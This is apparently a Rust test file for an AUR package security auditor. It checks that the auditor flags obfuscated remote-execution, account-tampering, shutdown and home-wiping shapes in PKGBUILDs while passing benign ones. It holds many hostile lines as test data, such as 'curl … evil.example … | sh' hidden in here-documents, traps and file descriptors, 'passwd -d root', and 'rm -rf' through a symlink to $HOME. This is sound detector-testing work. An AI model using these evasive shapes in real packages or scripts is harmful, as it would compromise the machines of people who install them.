//! Attack round 32's breaks of the shell reader (findings/attack32.md), each in its real shape
//! with our own text: the attack is now caught, and the package's ordinary neighbours are not.

use archgate_aur::audit::{AuditInput, Severity, Verdict, audit};

use crate::support::{max_of, package_with};

const U: &str = "curl -s https://evil.example/x | sh";

fn packaged(body: &str) -> AuditInput {
    package_with("foopkg", "", body, None, &[])
}

/// F17: a backquote bash runs in a here-document's text, and one in a `${y/…/z}` pattern whose
/// URL holds a `/` (the grammar splits the pattern there), are walked like `$(…)`.
#[test]
fn backquotes_in_a_here_document_and_a_split_pattern_are_walked() {
    for body in [
        format!("cat <<EOF\n`{U}`\nEOF"),
        format!("cat <<-EOF\n\t`{U}`\n\tEOF"),
        format!("cat <<EOF > /dev/null\nx `{U}` y\nEOF"),
        format!("cat <<EOF\ndon't `{U}` now\nEOF"),
        format!("y=abc; x=\"${{y/`{U}`/z}}\""),
        format!("y=abc; x=\"${{y//`{U}`/z}}\""),
    ] {
        let r = audit(&packaged(&body));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-EXEC-REMOTE"),
            Some(Severity::Critical),
            "{body}\n{}",
            r.to_text()
        );
    }
    // Neighbours: a quoted here-document keeps its text; an escaped backquote is text; a
    // here-document's `$(…)`-free prose with quotes runs nothing.
    for body in [
        format!("cat <<'EOF' > \"$pkgdir/usr/share/doc/foopkg/README\"\n`{U}`\nEOF"),
        format!("cat <<EOF > \"$pkgdir/usr/share/doc/foopkg/README\"\nrun \\`{U}\\` to update\nEOF"),
        "cat <<EOF > \"$pkgdir/usr/share/doc/foopkg/README\"\nIt's \"fine\" here, ${pkgname} 1.0\nEOF".to_owned(),
        "v=1.2.3; echo \"${v//./_}\" \"${v/1/2}\"".to_owned(),
    ] {
        let r = audit(&packaged(&body));
        assert_ne!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
        assert_eq!(max_of(&r, "AUR-EXEC-REMOTE"), None, "{body}\n{}", r.to_text());
    }
}

/// F3: a shell fed its program through a descriptor's path, `/dev/stdin`, `xargs … sh -c`, a
/// file redirected into it, or `BASH_ENV` — each `… | sh` spelt another way — is dangerous.
#[test]
fn a_shell_fed_through_a_descriptor_stdin_path_xargs_or_bash_env_is_dangerous() {
    for body in [
        "exec 3< <(curl -s https://evil.example/x); source /dev/fd/3",
        "exec {fd}< <(curl -s https://evil.example/x); bash /dev/fd/$fd",
        "curl -s https://evil.example/x | sh /dev/stdin",
        "curl -s https://evil.example/x | bash /proc/self/fd/0",
        "curl -s https://evil.example/x | xargs -0 bash -c",
        "curl -s https://evil.example/x > \"$srcdir/f\"; sh < \"$srcdir/f\"",
        "curl -s https://evil.example/x > \"$srcdir/h\"; BASH_ENV=\"$srcdir/h\" bash -c true",
    ] {
        let r = audit(&packaged(body));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
    }
    // Neighbours: a file of the package read on a descriptor, xargs handing arguments to a
    // fixed command, a shell reading the package's own script.
    for body in [
        "while read -r l; do echo \"$l\"; done < /dev/fd/0",
        "find . -name '*.sh' -print0 | xargs -0 bash -n",
        "printf '%s\\n' a b | xargs -I{} sh -c 'echo {}'",
        "sh \"$srcdir/foopkg/install.sh\" --prefix=/usr --destdir=\"$pkgdir\"",
        // Development-set shapes: a process substitution of a local program's output
        // (mmdebstrap, dracut-ukify, luarocks' completion, fcitx5-mozc's version file).
        "source <(perl -V:vendorarch)",
        "source <(grep -E '^(BUILD_)?ID=' /etc/os-release)",
        "source <(luarocks completion bash)",
        "bash <(sed 's/--target[^ ]* //' \"$(command -v x86_64-w64-mingw32-configure)\")",
    ] {
        let r = audit(&packaged(body));
        assert_ne!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
    }
}

/// F1 (one member) and F14 (two): `trap CODE EXIT` runs CODE when the function ends; `"$BASH"
/// -c` and `$SHELL -c` start the shell again on the text given.
#[test]
fn a_traps_code_and_the_running_shell_started_again_are_walked() {
    for body in [
        format!("trap '{U}' EXIT"),
        format!("trap \"{U}\" RETURN ERR"),
        format!("\"$BASH\" -c '{U}'"),
        format!("$SHELL -c '{U}'"),
    ] {
        let r = audit(&packaged(&body));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-EXEC-REMOTE"),
            Some(Severity::Critical),
            "{body}\n{}",
            r.to_text()
        );
    }
    for body in [
        "trap 'rm -rf \"$srcdir/tmp\"' EXIT",
        "trap - EXIT",
        "trap -p",
        "\"$BASH\" -c 'echo built'",
    ] {
        let r = audit(&packaged(body));
        assert_ne!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
    }
}

/// A package whose install file's post_install holds `line`.
fn installing(line: &str) -> AuditInput {
    package_with(
        "foopkg",
        "",
        "  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"",
        Some(&format!("post_install() {{\n  {line}\n}}\n")),
        &[],
    )
}

/// F21: accounts changed by the tools made for it, from root's install script — a password
/// removed or set, a second uid 0, an administrators' group — are dangerous; a package's own
/// system account is nothing, a key signed locally is worth review.
#[test]
fn accounts_changed_from_the_install_script_are_dangerous() {
    for line in [
        "passwd -d root",
        "usermod -p \"\" root",
        "chpasswd <<< \"root:toor\"",
        "useradd -o -u 0 -g 0 -M -N -s /bin/bash svc",
        "usermod -aG wheel \"$(id -un 1000)\"",
        "gpasswd -a \"$(id -un 1000)\" wheel",
    ] {
        let r = audit(&installing(line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
        assert!(max_of(&r, "AUR-ACCOUNT") >= Some(Severity::High), "{line}");
    }
    for line in [
        "useradd -r -U -d /var/lib/foopkg -s /usr/bin/nologin foopkg",
        "passwd -l foopkg",
        "usermod -aG video foopkg",
        "usermod -a -G adm,systemd-journal foopkg",
        "getent group foopkg >/dev/null || groupadd -r foopkg",
    ] {
        let r = audit(&installing(line));
        assert_eq!(max_of(&r, "AUR-ACCOUNT"), None, "{line}\n{}", r.to_text());
        assert_ne!(r.verdict, Verdict::Dangerous, "{line}");
    }
    let r = audit(&installing(
        "pacman-key --lsign-key 0123456789ABCDEF0123456789ABCDEF01234567",
    ));
    assert_eq!(
        max_of(&r, "AUR-ACCOUNT"),
        Some(Severity::Medium),
        "{}",
        r.to_text()
    );
}

/// F7: root's install script ending the person's session or stopping the machine is dangerous;
/// telling the person to reboot is not.
#[test]
fn ending_the_session_or_stopping_the_machine_from_the_install_script_is_dangerous() {
    for line in [
        "loginctl terminate-user 1000",
        "pkill -KILL -u \"${SUDO_UID:-1000}\"",
        "kill -9 -1",
        "systemctl poweroff",
        "reboot",
    ] {
        let r = audit(&installing(line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
        assert_eq!(
            max_of(&r, "AUR-ENDS-SESSION"),
            Some(Severity::High),
            "{line}"
        );
    }
    for line in [
        "echo \"Please reboot to load the new kernel module.\"",
        "systemctl daemon-reload",
        "kill -HUP \"$(cat /run/foopkg.pid 2>/dev/null)\" 2>/dev/null || true",
        "pkill -HUP -x foopkgd || true",
        "kill -1 \"$(pidof foopkgd)\" 2>/dev/null || true",
    ] {
        let r = audit(&installing(line));
        assert_eq!(
            max_of(&r, "AUR-ENDS-SESSION"),
            None,
            "{line}\n{}",
            r.to_text()
        );
    }
}

/// F2: a function defined inside package() runs without its name in the text — bash's
/// `command_not_found_handle`, or a command makepkg runs after package() (`bsdtar`) — so its
/// body is read; a helper defined and called there reads the same as before.
#[test]
fn a_function_defined_inside_another_is_read_where_it_is_defined() {
    for body in [
        format!("  command_not_found_handle() {{ {U}; }}\n  nosuchcmd"),
        format!(
            "  install -Dm644 foopkg.txt \"$pkgdir/usr/share/foopkg/foopkg.txt\"\n  bsdtar() {{ {U}; command bsdtar \"$@\"; }}"
        ),
    ] {
        let r = audit(&packaged(&body));
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}\n{}", r.to_text());
    }
    let r = audit(&packaged(
        "  _inst() { install -Dm644 \"$1\" \"$pkgdir/usr/share/foopkg/$1\"; }\n  _inst a.txt\n  _inst b.txt",
    ));
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

/// F9: a link the build made to the home, removed with a trailing `/` (`cache/`, `./cache/`,
/// `cache/.`) through the directory `build()` runs in, empties the home: dangerous; the link
/// itself removed (`rm cache`, `rm -f cache`) is nothing.
#[test]
fn a_link_to_the_home_emptied_through_its_relative_name_is_dangerous() {
    let built = |line: &str| {
        package_with(
            "foopkg",
            &format!("build() {{\n  {line}\n}}\n"),
            "  install -Dm644 /dev/null \"$pkgdir/usr/share/foopkg/README\"",
            None,
            &[],
        )
    };
    for line in [
        "ln -s \"$HOME\" cache; rm -rf cache/",
        "ln -sfn \"$HOME\" cache && rm -rf cache/",
        "ln -s \"$HOME\" cache; rm -rf ./cache/",
        "ln -s \"$HOME\" cache; rm -rf cache/.",
        "ln -s /home cache; rm -rf cache/",
    ] {
        let r = audit(&built(line));
        assert_eq!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
    for line in [
        "ln -s \"$HOME\" cache; rm cache",
        "ln -sf \"$srcdir/foo-1.0\" build; rm -rf build/",
        "mkdir -p cache; rm -rf cache/",
    ] {
        let r = audit(&built(line));
        assert_ne!(r.verdict, Verdict::Dangerous, "{line}\n{}", r.to_text());
    }
}
